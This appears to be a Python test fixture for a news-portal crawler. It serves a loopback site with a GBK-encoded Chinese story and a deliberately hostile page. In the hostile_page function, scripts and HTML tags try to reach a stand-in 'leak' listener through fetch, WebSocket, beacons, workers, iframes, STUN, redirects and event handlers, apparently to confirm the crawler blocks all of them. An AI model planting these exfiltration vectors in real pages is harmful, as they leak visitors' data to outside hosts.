"""A small portal on loopback with a page of 2004 in GBK, and a page that tries whatever a page may try to get out."""

# ruff: noqa: RUF001 - Chinese text has commas of its own
from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler

from portal_crawler.sites.profile import SiteProfile
from tests.served_portal import quick_profile, served_portal

GBK_PATH, HOSTILE_PATH, PLAIN_PATH = "/2004/10/story.htm", "/2004/10/hostile.htm", "/2004/10/plain.htm"
HEADLINE = "三湖渡船每小时一班"
SENTENCES = (
    "港务局长说，海湾里今天停着五十三条船，比去年同期多了七条。",
    "山谷里的农民清晨运来四十吨茶叶，市场在星期一天亮以前就开门了。",
    "博物馆展出三十张三角洲地图，都是测量员用九年时间徒步画成的。",
)
_HUB = f"""<html><head><title>News</title></head><body><a href="/">Home</a><ul>
<li><a href="{GBK_PATH}">What the ferry of the three lakes has to tell</a></li>
<li><a href="{PLAIN_PATH}">What the market in the valley has to tell</a></li>
<li><a href="{HOSTILE_PATH}">What the paper that wants out has to tell</a></li></ul></body></html>"""
_GBK = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=gb2312"><title>{HEADLINE}</title>
</head><body><table width="600"><tr><td bgcolor="#cc0000"><font color="white">大河在线</font></td></tr><tr><td>
<h1>{HEADLINE}</h1>{"".join(f"<p>{one * 3}</p>" for one in SENTENCES)}
<img src="/photo.gif" alt="photo"><a href="{PLAIN_PATH}">next</a></td></tr></table></body></html>"""
_PLAIN = f"""<html><head><title>The market opened before dawn</title></head><body><h1>The market opened before dawn</h1>
{"".join(f"<p>Farmers of the valley brought {n} tons of tea to the market on day {n}.</p>" for n in range(12))}
</body></html>"""


def hostile_page(leak: str) -> str:
    """A story that tries to reach ``leak`` (``address:port``) in many ways, and its surroundings in others."""
    get = f"http://{leak}"
    scripts = f"""
window.ran = true;
try {{ parent.document.title = 'taken'; }} catch (e) {{}}
try {{ localStorage.setItem('ran', '1'); }} catch (e) {{}}
try {{ fetch('{get}/fetch'); }} catch (e) {{}}
try {{ new WebSocket('ws://{leak}/socket'); }} catch (e) {{}}
try {{ navigator.sendBeacon('{get}/beacon', 'x'); }} catch (e) {{}}
try {{ new Image().src = '{get}/image'; }} catch (e) {{}}
try {{ new EventSource('{get}/events'); }} catch (e) {{}}
try {{ var w = "try {{ new WebSocket('ws://{leak}/worker') }} catch (e) {{}}; fetch('{get}/worker');";
  new Worker(URL.createObjectURL(new Blob([w], {{type: 'text/javascript'}}))); }} catch (e) {{}}
try {{ window.open('{get}/open'); }} catch (e) {{}}
try {{ var f = document.createElement('iframe'); document.body.appendChild(f);
  new f.contentWindow.WebSocket('ws://{leak}/inner'); f.contentWindow.fetch('{get}/inner'); }} catch (e) {{}}
try {{ var c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{leak}'}}]}}); c.createDataChannel('x');
  c.createOffer().then(function (o) {{ c.setLocalDescription(o); }}); }} catch (e) {{}}
setTimeout(function () {{ try {{ location.href = '{get}/away'; }} catch (e) {{}} }}, 300);
setTimeout(function () {{ try {{ top.location.href = '{get}/top'; }} catch (e) {{}} }}, 400);
"""
    return f"""<html><head><title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; The paper that wants out</title>
<base href="{get}/"><link rel="dns-prefetch" href="//leak.test"><link rel="preconnect" href="{get}">
<link rel="prefetch" href="{get}/prefetch"><link rel="stylesheet" href="{get}/style.css">
<style>@import url({get}/import.css); body {{ background: url({get}/back.gif) }}</style>
<meta http-equiv="refresh" content="1;url={get}/refresh"><script src="{get}/script.js"></script>
<script>{scripts}</script></head><body onload="new Image().src='{get}/onload'" background="{get}/attr.gif">
<h1>The paper that wants out</h1>{_PLAIN.partition("</h1>")[2]}
<img src="x" onerror="new Image().src='{get}/onerror'"><img srcset="{get}/srcset.gif 1x"><video src="{get}/film.mp4"
poster="{get}/poster.gif" autoplay></video><iframe src="{get}/frame"></iframe><object data="{get}/object"></object>
<embed src="{get}/embed"><svg onload="new Image().src='{get}/svg'"><image href="{get}/svg.gif"/></svg>
<form action="{get}/form" id="f"><input name="q" autofocus onfocus="this.form.submit()"></form>
<iframe srcdoc="&lt;script&gt;new Image().src='{get}/srcdoc'&lt;/script&gt;"></iframe></body></html>"""


@dataclass
class Leaks:
    """A place that nothing may reach: the first bytes of every connection, and every datagram."""

    address: str
    heard: list[bytes] = field(default_factory=list)


@contextmanager
def leaks() -> Iterator[Leaks]:
    """A port of loopback, TCP and UDP, that hears and answers nothing."""
    tcp = socket.create_server(("127.0.0.1", 0))
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    found = Leaks(f"127.0.0.1:{port}")

    def hear_tcp() -> None:
        while True:
            try:
                link, _ = tcp.accept()
            except OSError:
                return
            with link:
                link.settimeout(1.0)
                try:
                    found.heard.append(link.recv(200) or b"a connection")
                except OSError:
                    found.heard.append(b"a connection")

    def hear_udp() -> None:
        while True:
            try:
                found.heard.append(b"UDP " + udp.recv(200))
            except OSError:
                return

    threads = [threading.Thread(target=one, daemon=True) for one in (hear_tcp, hear_udp)]
    for thread in threads:
        thread.start()
    try:
        yield found
    finally:
        for one in (tcp, udp):
            one.shutdown(socket.SHUT_RDWR) if one is tcp else one.close()
        tcp.close()


@dataclass
class GbkPortal:
    """``pages`` by path; ``asked`` are the paths that were asked for."""

    address: str
    pages: dict[str, bytes] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def profile(self, name: str = "gbk") -> SiteProfile:
        """A profile that crawls it without a delay."""
        return quick_profile(self.address, name, concurrency=1, retries=0)


@contextmanager
def gbk_portal(leak: str = "127.0.0.1:9") -> Iterator[GbkPortal]:
    """The portal, served until the end of the block."""
    pages = {
        "/": _HUB.encode(),
        GBK_PATH: _GBK.encode("gb18030"),
        PLAIN_PATH: _PLAIN.encode(),
        HOSTILE_PATH: hostile_page(leak).encode(),
    }
    with served_portal(_Handler, partial(GbkPortal, pages=pages)) as portal:
        yield portal


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    wbufsize = -1

    def do_GET(self) -> None:
        portal: GbkPortal = self.server.portal  # type: ignore[attr-defined]
        portal.asked.append(self.path)
        body = portal.pages.get(self.path)
        self.send_response(200 if body is not None else 404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")

    def log_message(self, *_: object) -> None:
        pass
